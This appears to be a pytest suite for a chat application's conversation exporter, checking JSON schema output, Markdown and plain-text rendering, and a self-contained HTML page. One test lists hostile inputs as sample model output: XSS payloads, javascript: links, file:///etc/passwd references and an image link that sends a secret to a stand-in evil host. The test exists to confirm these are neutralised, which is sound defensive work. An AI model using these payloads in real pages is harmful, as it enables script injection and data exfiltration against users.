import json
from dataclasses import replace
from html.parser import HTMLParser

import jsonschema
import pytest

from app.domain.blocks import TextBlock, broken_media, type_names
from app.domain.conversation import Role
from app.domain.library import Folder
from app.infra.resources import resource_path
from app.services.export.as_json import block_value
from app.services.export.as_markdown import fenced
from app.services.export.exporter import ExportFormat, exporter_for
from app.services.export.tree import ConversationTree
from tests.services.export.trees import NOON, WORDS, Attachments, message, tree

TEXTS = [wanted for wanted in ExportFormat if wanted is not ExportFormat.PDF]


async def exported(wanted: ExportFormat, *trees: ConversationTree) -> str:
    exporter = exporter_for(wanted, WORDS, Attachments())
    parts = [exporter.begin()]
    parts += [await exporter.conversation(one) for one in trees]
    return "".join([*parts, exporter.end()])


def test_the_path_is_what_is_shown() -> None:
    found = tree()
    assert [one.id for one in found.path()] == ["m1", "m3", "m4"]
    assert replace(found, conversation=replace(found.conversation, head_id=None)).path() == ()
    assert replace(found, conversation=replace(found.conversation, head_id="gone")).path() == ()


def test_a_tree_that_bites_its_tail_ends() -> None:
    first = message(1, 2, Role.USER, TextBlock("a"))
    second = message(2, 1, Role.USER, TextBlock("b"))
    found = tree()
    circle = ConversationTree(replace(found.conversation, head_id="m2"), (first, second))
    assert [one.id for one in circle.path()] == ["m1", "m2"]


async def test_json_holds_every_branch_and_every_file() -> None:
    data = json.loads(await exported(ExportFormat.JSON, tree(), tree()))
    assert (data["format"], data["version"], len(data["conversations"])) == ("loquent-conversations", 2, 2)
    found = data["conversations"][0]
    assert (found["id"], found["title"], found["head"]) == ("c1", "Cats\nand 猫", "m4")
    assert found["created_at"] == "2026-05-04T12:30:15Z"
    assert found["model"] == {"provider_id": "p1", "model_id": "gpt_5*mini"}
    assert found["settings"]["extra"] == {"top_k": 3}
    assert [(one["id"], one["parent"]) for one in found["messages"]] == [
        ("m1", None),
        ("m2", "m1"),
        ("m3", "m1"),
        ("m4", "m3"),
    ]
    answer = found["messages"][2]
    assert (answer["role"], answer["status"], answer["finish_reason"]) == ("assistant", "cut", "length")
    assert answer["usage"]["completion_tokens"] == 20
    assert answer["timing"] == {"first_token": 0.5, "total": 2.0}
    assert answer["error"]["reason"] == "cut.token_limit"
    assert answer["error"]["params"] == {"tokens": "20"}
    assert answer["blocks"][0] == {"type": "thinking", "text": "Let me\nsee", "seconds": 1.5}
    assert found["attachments"]["a" * 64] == {
        "media_type": "image/png",
        "name": 'ca"t<1>.png',
        "size": 3,
        "data": ["UE5H"],
    }
    assert found["attachments"]["b" * 64]["data"] is None
    assert data["conversations"][1]["attachments"] == {}


async def test_json_fits_its_schema() -> None:
    schema = json.loads(resource_path("schemas/loquent-conversations-2.json").read_text(encoding="utf-8"))
    folder = Folder("f1", "Animals", 3, NOON)
    named = replace(tree(), folder=folder)
    found = replace(named, conversation=replace(named.conversation, tags=("a", "b"), pinned_at=NOON))
    value = json.loads(await exported(ExportFormat.JSON, found))
    jsonschema.Draft202012Validator(schema).validate(value)
    assert value["conversations"][0]["folder"]["name"] == "Animals"
    del value["conversations"][0]["messages"][0]["parent"]
    with pytest.raises(jsonschema.ValidationError):
        jsonschema.Draft202012Validator(schema).validate(value)


async def test_json_keeps_every_type_of_block() -> None:
    data = json.loads(await exported(ExportFormat.JSON, tree()))
    types = {block["type"] for one in data["conversations"][0]["messages"] for block in one["blocks"]}
    assert types == {*type_names.values(), "hologram"}
    unknown = tree().messages[3].blocks[-1]
    assert block_value(unknown) == {"type": "hologram", "schema_version": 3, "json": '{"depth": 2}'}


@pytest.mark.parametrize("wanted", [ExportFormat.MARKDOWN, ExportFormat.HTML, ExportFormat.TEXT])
async def test_what_only_an_endpoint_reads_is_for_nobody_else(wanted: ExportFormat) -> None:
    text = await exported(wanted, tree())
    assert "for-the-endpoint" not in text
    assert "**\n" not in text.replace("**系统提示**\n", "").replace("**思考**\n", "")
    assert "()" not in text.replace("print()", "")
    assert "for-the-endpoint" in await exported(ExportFormat.JSON, tree())


async def test_sources_are_links_and_data_is_code() -> None:
    text = await exported(ExportFormat.MARKDOWN, tree())
    assert "[A source](<https://source.example>)" in text
    assert "[https://source.example/a \\<b\\>](<https://source.example/a%20%3Cb%3E>)" in text
    assert '```json\n{"n": 1}\n```' in text
    page = await exported(ExportFormat.HTML, tree())
    assert '<a href="https://source.example" rel="noreferrer">A source</a>' in page
    assert 'href="javascript' not in page


async def test_json_of_nothing_is_json() -> None:
    assert json.loads(await exported(ExportFormat.JSON))["conversations"] == []


async def test_markdown_reads_like_the_conversation() -> None:
    text = await exported(ExportFormat.MARKDOWN, tree())
    assert text.startswith(
        "# Cats and 猫\n\n**系统提示**\n\n> Be brief.\n\n## 我 · 2026-05-04 12:30 UTC\n\n# What <b>is</b>"
    )
    assert "## gpt\\_5\\*mini (Gate) · 2026-05-04 12:30 UTC\n\n**思考**\n\n> Let me\n> see\n\nIt is a **cat**." in text
    assert "*被切断: length limit \\<i\\>*" in text
    assert '*图片: ca"t\\<1\\>.png (640 × 480)*' in text
    assert "*文件: paper.pdf*" in text
    assert "spoken words" in text
    assert "A first try" not in text
    assert '````\n{"q": "```"}\n````' in text
    assert "*已停止*" in text


async def test_plain_text_reads_like_the_conversation() -> None:
    text = await exported(ExportFormat.TEXT, tree(), tree())
    assert text.startswith(
        "Cats and 猫\n===========\n\n[系统提示]\nBe brief.\n\n[我 · 2026-05-04 12:30 UTC]\n# What <b>"
    )
    assert "[gpt_5*mini (Gate) · 2026-05-04 12:30 UTC]\n(思考)\n  Let me\n  see\nIt is a **cat**." in text
    assert "(被切断: length limit <i>)" in text
    assert text.count("Be brief.") == 2


class Tags(HTMLParser):
    """Collects what a browser would build."""

    def __init__(self, page: str) -> None:
        super().__init__()
        self.found: list[tuple[str, dict[str, str | None]]] = []
        self.feed(page)
        self.close()

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        self.found.append((tag, dict(attrs)))

    def all(self, tag: str) -> list[dict[str, str | None]]:
        return [attributes for name, attributes in self.found if name == tag]


async def test_html_is_one_page_that_fetches_nothing() -> None:
    page = await exported(ExportFormat.HTML, tree())
    tags = Tags(page)
    assert [image["src"] for image in tags.all("img")] == ["data:image/png;base64,UE5H"]
    assert tags.all("img")[0]["alt"] == 'ca"t<1>.png'
    assert tags.all("html") == [{"lang": "zh-CN"}]
    assert not any(tags.all(tag) for tag in ("script", "link", "iframe", "b", "i", "object"))
    assert "default-src 'none'" in page
    assert "<strong>cat</strong>" in page
    assert '<code class="language-py">' in page
    assert "<summary>思考</summary>" in page
    assert "被切断: length limit &lt;i&gt;" in page
    assert "&lt;b&gt;is&lt;/b&gt;" in page
    assert "图片: gone.png" in page


@pytest.mark.parametrize(
    "text",
    [
        "[x](javascript:alert(1))",
        "<script>alert(1)</script>",
        "<img src=x onerror=alert(1)>",
        "![x](file:///etc/passwd)",
        "![x](https://evil.example/?q=secret)",
        "</article></body><script>",
        "[x](vbscript:x)",
        "[x](file:///etc/passwd)",
    ],
)
async def test_what_a_model_writes_is_harmless_in_html(text: str) -> None:
    hostile = message(1, None, Role.ASSISTANT, TextBlock(text))
    found = replace(tree().conversation, head_id="m1", title=text, system_prompt=text)
    tags = Tags(await exported(ExportFormat.HTML, ConversationTree(found, (hostile,))))
    assert not tags.all("script")
    assert not tags.all("img")
    assert len(tags.all("article")) == 1
    for link in tags.all("a"):
        assert str(link["href"]).startswith(("http://", "https://", "mailto:"))


@pytest.mark.parametrize("wanted", TEXTS)
async def test_an_empty_conversation_is_no_trouble(wanted: ExportFormat) -> None:
    empty = ConversationTree(replace(tree().conversation, title="", head_id=None, created_at=NOON), ())
    text = await exported(wanted, empty)
    assert "c1" in text if wanted is ExportFormat.JSON else "无标题" in text


@pytest.mark.parametrize(("text", "fence"), [("a", "```"), ("```", "````"), ("x ````` y", "``````")])
def test_a_fence_is_longer_than_what_it_holds(text: str, fence: str) -> None:
    assert fenced(text) == f"{fence}\n{text}\n{fence}"


@pytest.mark.parametrize("wanted", [ExportFormat.MARKDOWN, ExportFormat.HTML, ExportFormat.TEXT])
async def test_a_file_that_could_not_be_read_is_named_in_words(wanted: ExportFormat) -> None:
    whole = tree()
    last = whole.messages[3]
    noted = replace(last, blocks=(*last.blocks, broken_media("image/png", "AAAA!"), broken_media("base64", "AAAA!")))
    messages = tuple(noted if message is last else message for message in whole.messages)
    text = await exported(wanted, replace(whole, messages=messages))
    assert "无法读取的文件 (image/png)" in text
    assert text.count("无法读取的文件") == 2
    assert "AAAA" not in text
